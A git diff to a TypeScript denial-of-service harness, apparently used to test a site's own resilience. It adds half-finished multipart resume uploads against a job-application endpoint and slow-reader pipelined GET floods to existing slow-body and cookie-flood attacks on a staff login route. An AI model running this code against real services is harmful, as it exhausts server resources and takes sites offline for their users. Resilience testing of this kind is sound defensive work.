@@ -8,6 +8,10 @@ export interface Attack {
   largeBodies: number;
   stalledBodies: number;
   cookiesPerSecond: number;
+  /** Applications whose file stops half way. */
+  halfUploads: number;
+  /** Readers who ask for many pages and take none of them. */
+  slowReaders: number;
 }
 
 /** What became of an attack's requests, by answer; `closed` where the connection ended without one. */
@@ -19,7 +23,7 @@ const manyCookies = Array.from({ length: 2000 }, (_, number) => `${number.toStri
 
 /**
  * Attacks a site until it is stopped: connections that say a byte a second, bodies of 200 MB to the studio's login,
- * bodies that stop half way, and headers full of cookies. Every request that ends is begun again.
+ * bodies and files that stop half way, headers full of cookies, and readers who do not read. Every request that ends is begun again.
  */
 export const startAttack = (url: string, attack: Attack) => {
   const { hostname, port } = new URL(url);
@@ -30,13 +34,18 @@ export const startAttack = (url: string, attack: Attack) => {
     outcomes[what] = (outcomes[what] ?? 0) + 1;
   };
 
-  const post = (length: number, headers: Record<string, string>, fill: (sent: ClientRequest) => void) =>
+  const post = (
+    length: number,
+    headers: Record<string, string>,
+    fill: (sent: ClientRequest) => void,
+    path = '/studio/api/staff/login',
+  ) =>
     new Promise<void>((resolve) => {
       const sent = request({
         host: hostname,
         port,
         method: 'POST',
-        path: '/studio/api/staff/login',
+        path,
         headers: { 'Content-Type': 'application/json', 'Content-Length': String(length), ...headers },
       });
       open.add(sent);
@@ -84,6 +93,32 @@ export const startAttack = (url: string, attack: Attack) => {
 
   const sendCookies = () => post(2, { Cookie: manyCookies }, (sent) => sent.end('{}'));
 
+  const sendHalfUpload = () =>
+    post(
+      4_000_000,
+      { 'Content-Type': 'multipart/form-data; boundary=b' },
+      (sent) => {
+        sent.write('--b\r\nContent-Disposition: form-data; name="resume"; filename="r.pdf"\r\n\r\n');
+        sent.write(Buffer.alloc(2_000_000, '%'));
+      },
+      '/api/post-apply-job',
+    );
+
+  const askWithoutReading = () =>
+    new Promise<void>((resolve) => {
+      const socket = connect(Number(port), hostname, () => {
+        socket.pause();
+        socket.write('GET /gu HTTP/1.1\r\nHost: a\r\n\r\n'.repeat(200));
+      });
+      open.add(socket);
+      socket.on('error', () => {});
+      socket.on('close', () => {
+        note('unread, closed');
+        open.delete(socket);
+        resolve();
+      });
+    });
+
   const again = async (send: () => Promise<void>, pause: number): Promise<void> => {
     while (going) {
       await send();
@@ -98,6 +133,8 @@ export const startAttack = (url: string, attack: Attack) => {
     ...side(attack.largeBodies, sendLarge, 500),
     ...side(attack.stalledBodies, sendStalled, 100),
     ...side(attack.cookiesPerSecond, sendCookies, 1000),
+    ...side(attack.halfUploads, sendHalfUpload, 200),
+    ...side(attack.slowReaders, askWithoutReading, 200),
   ];
   return {
     outcomes,
